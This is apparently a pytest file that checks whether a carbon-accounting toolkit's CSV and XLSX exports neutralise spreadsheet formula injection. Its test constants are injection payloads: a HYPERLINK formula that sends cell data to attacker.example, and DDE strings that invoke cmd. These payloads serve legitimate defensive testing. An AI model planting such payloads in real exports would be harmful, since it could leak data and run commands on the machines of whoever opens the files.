"""Spreadsheet-safe exports (OWASP CSV injection): text a user gave that starts with `=`, `+`, `-`, `@`, tab or CR is
never a live formula in any CSV/XLSX the toolkit writes (`pcf cbam declaration --csv`, `pcf scope3 -o` as .xlsx
and .csv, `pcf cbam template`): in CSV it gets a leading `'`, in XLSX it is a string cell with Excel's quote prefix
(the text itself unchanged); numbers stay numbers. Each file is read back (openpyxl for XLSX) and its cells checked."""

from __future__ import annotations

import copy
import csv
import warnings
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from exchange.spreadsheet_safe import formula_like, safe_cell
from exchange.cbam.template_import import import_template
from pcf.cli import main
from tests.cbam.test_cbam_declaration import QREPORT_DECLARANT, ROWS, write_csv
from tests.cbam.test_cbam_template import CHAIN

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS, MINUS, TAB, CR = "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"


@pytest.mark.parametrize("text", [HYPERLINK, DDE, AT, PLUS, MINUS, TAB, CR])
def test_formula_text_is_escaped(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, 0, 42, Decimal("-3.25"), "-1.5", "+2", "-4e-3", ".5", "Hebei mill",
                                   "CN-1", None, "", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def assert_quoted_text(cell, text: str) -> None:
    """An XLSX cell holding `text` as a string with Excel's quote prefix: shown and read as text, never run."""
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), cell.coordinate


def test_cbam_declaration_csv(tmp_path):
    rows = copy.deepcopy(ROWS)
    rows[0][3], rows[1][3], rows[2][3] = HYPERLINK, DDE, AT  # installation ids: the declarant's text
    goods = write_csv(tmp_path / "goods.csv", rows)
    declarant = tmp_path / "declarant.yaml"
    declarant.write_text(QREPORT_DECLARANT)
    out, out_csv = tmp_path / "declaration.json", tmp_path / "declaration.csv"
    result = CliRunner().invoke(main, ["cbam", "declaration", str(goods), "--declarant", str(declarant), "--year",
                                       "2026", "--certificate-price", "80", "-o", str(out), "--csv", str(out_csv)])
    assert result.exit_code == 0, result.output
    with out_csv.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    for text in (HYPERLINK, DDE, AT):
        assert "'" + text in cells and text not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    with out_csv.open(newline="", encoding="utf-8") as handle:
        lines = [row for row in csv.DictReader(handle) if row["level"] == "line"]
    assert Decimal(lines[0]["due_t"]) > 0 and not lines[0]["due_t"].startswith("'")  # numbers stay numbers


def _purchases(tmp_path: Path) -> Path:
    path = tmp_path / "purchases.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["supplier", "product_id", "quantity", "unit", "spend", "currency", "naics", "category"])
        writer.writerow([HYPERLINK, AT, "2", "t", "1000", "USD", "331110", MINUS])
    return path


def test_scope3_xlsx(tmp_path):
    out = tmp_path / "scope3.xlsx"
    result = CliRunner().invoke(main, ["scope3", str(_purchases(tmp_path)), "-o", str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    header, line = [[cell for cell in row] for row in book["lines"].iter_rows(min_row=1, max_row=2)]
    row = {title.value: cell for title, cell in zip(header, line)}
    for column, text in (("supplier", HYPERLINK), ("product_id", AT), ("category", MINUS)):
        assert_quoted_text(row[column], text)
    assert row["kgCO2e"].data_type == "n" and row["kgCO2e"].value == pytest.approx(1000 * 0.787)
    assert row["spend"].value == 1000 and row["spend"].data_type == "n"
    [by_supplier] = [cell for cell in book["by supplier"]["A"] if cell.value == HYPERLINK]  # the totals too
    assert_quoted_text(by_supplier, HYPERLINK)
    every = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]  # no formula anywhere in the workbook
    assert not [cell.coordinate for cell in every if formula_like(cell.value) and not cell.quotePrefix]


def test_scope3_csv(tmp_path):
    out = tmp_path / "scope3.csv"
    result = CliRunner().invoke(main, ["scope3", str(_purchases(tmp_path)), "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        [line] = list(csv.DictReader(handle))
    assert (line["supplier"], line["product_id"], line["category"]) == ("'" + HYPERLINK, "'" + AT, "'" + MINUS)
    assert float(line["kgCO2e"]) == pytest.approx(1000 * 0.787)


def test_cbam_template(tmp_path):
    chain = copy.deepcopy(CHAIN)
    chain["name"] = HYPERLINK
    chain["products"][0]["name"] = DDE
    model, written = tmp_path / "chain.yaml", tmp_path / "chain.xlsx"
    model.write_text(yaml.safe_dump(chain, sort_keys=False), encoding="utf-8")
    result = CliRunner().invoke(main, ["cbam", "template", str(model), "-o", str(written)])
    assert result.exit_code == 0, result.output
    with warnings.catch_warnings():  # the template's conditional-format extensions
        warnings.simplefilter("ignore", UserWarning)
        book = openpyxl.load_workbook(written)
    cells = {cell.value: cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line
             if cell.value in (HYPERLINK, DDE)}
    assert set(cells) == {HYPERLINK, DDE}
    for text, cell in cells.items():
        assert_quoted_text(cell, text)
    assert import_template(written).name == HYPERLINK  # and the operator's text reads back exactly
